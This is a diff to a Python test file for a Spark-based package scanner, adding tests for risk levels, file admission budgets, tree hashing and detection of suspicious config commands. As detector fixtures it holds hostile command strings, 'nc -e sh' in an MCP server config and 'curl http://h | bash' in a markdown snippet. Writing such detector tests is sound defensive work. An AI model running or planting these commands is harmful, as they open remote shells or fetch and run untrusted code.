@@ -1,5 +1,6 @@
 """File detectors on small snippets: hit, miss and a disguise of each."""
 
+import hashlib
 import io
 import re
 import tarfile
@@ -131,7 +132,7 @@ def test_entropy(spark):
 def level(spark, *signals):
     schema = "package_id string, category string, severity string, key string, text string, evasion boolean"
     rows = [("p", c, s, k, k, e) for c, s, k, e in signals]
-    return PF.risk_levels(spark.createDataFrame(rows, schema)).first()["level"]
+    return PF.risk_levels(spark.createDataFrame([("p",)], "package_id string"), spark.createDataFrame(rows, schema)).first()["level"]
 
 
 def test_risk_levels(spark):
@@ -153,6 +154,18 @@ def test_cluster_collapses_only_without_high(spark):
     assert level(spark, *hooks, ("build_hooks", "HIGH", "x", True)) == "HIGH"
 
 
+def test_package_without_signals_has_level_none(spark):
+    signals = spark.createDataFrame([], "package_id string, category string, severity string, key string, text string, evasion boolean")
+    packages = spark.createDataFrame([("a",), ("a",), ("b",)], "package_id string")
+    assert got(PF.risk_levels(packages, signals), "package_id", "n_signals", "level") == [("a", 0, "NONE"), ("b", 0, "NONE")]
+
+
+def test_deep_nesting_spoils_no_other_document(spark):
+    deep = '{"command": "nc -e", "x": ' + "[" * 100_000 + "]" * 100_000 + "}"
+    df = spark.createDataFrame([("bad", deep), ("good", '{"s": {"command": "nc -e sh"}}')], "path string, content string")
+    assert {r["path"] for r in TX.config_commands(df).collect() if "MCP server" in r["finding"]} == {"good"}
+
+
 def test_suspicious_findings_have_context(spark):
     df = TX.suspicious_findings(files(spark, ("r.md", "x" * 60 + "\ncurl http://h | bash\n" + "y" * 60)).select("path", "content"))
     (row,) = df.collect()
@@ -161,8 +174,23 @@ def test_suspicious_findings_have_context(spark):
 
 def test_admission_cuts_at_first_overflow(spark):
     df = files(spark, ("a", "x" * 40), ("b", "x" * 70), ("c", "x"), ("/abs", "x"), ("d/../e", "x"))
-    assert got(FL.admit_files(df, budget=100), "path") == [("a",)]
-    assert got(FL.admit_files(df, max_file=50, budget=100), "path") == [("a",), ("c",)]
+    unsafe = [("/abs", "unsafe path"), ("d/../e", "unsafe path")]
+    assert got(FL.admit_files(df), "path", "refused") == sorted([*unsafe, ("a", None), ("b", None), ("c", None)])
+    assert got(FL.admit_files(df, budget=100), "path", "refused") == sorted([*unsafe, ("a", None), ("b", "over budget"), ("c", "over budget")])
+    marked = FL.admit_files(df, max_file=50, budget=100)
+    assert got(marked, "path", "refused") == sorted([*unsafe, ("a", None), ("b", "oversized"), ("c", None)])
+    assert got(FL.oversized_flags(marked), "oversized", "unavailable") == [("1 file(s) above the size limits", None)]
+
+
+def test_tree_hash_covers_large_files(spark):
+    """Two trees that differ in one large file only have different digests, those of the plain definition."""
+    rows = [("p", "b", "x" * 600_000), ("p", "a", "1"), ("q", "b", "x" * 599_999 + "y"), ("q", "a", "1"), ("r", "a", "1"), ("r", "b", "x" * 600_000)]
+    df = spark.createDataFrame(rows, "package_id string, path string, content string").repartition(3)
+    digest = {r["package_id"]: r["tree_sha256"] for r in FL.tree_hash(df).collect()}
+    for package in "pqr":
+        data = "".join(f"{path}\0{content}\n" for p, path, content in sorted(rows) if p == package)
+        assert digest[package] == hashlib.sha256(data.encode()).hexdigest()
+    assert digest["p"] == digest["r"] != digest["q"]
 
 
 def tarball(*members):
@@ -203,4 +231,4 @@ def test_tree(spark, tmp_path):
     tree = TR.read_tree(spark, str(tmp_path))
     assert got(TR.tree_files(tree), "package_id", "path") == [("p", "a/b.py"), ("p", "run"), ("p", "z.py")]
     # Files of a directory come before its subdirectories, so the budget drops a/b.py.
-    assert got(TR.tree_files(tree, budget=11), "path") == [("run",), ("z.py",)]
+    assert got(TR.tree_files(tree, budget=11), "path", "refused") == [("a/b.py", "over budget"), ("run", None), ("z.py", None)]
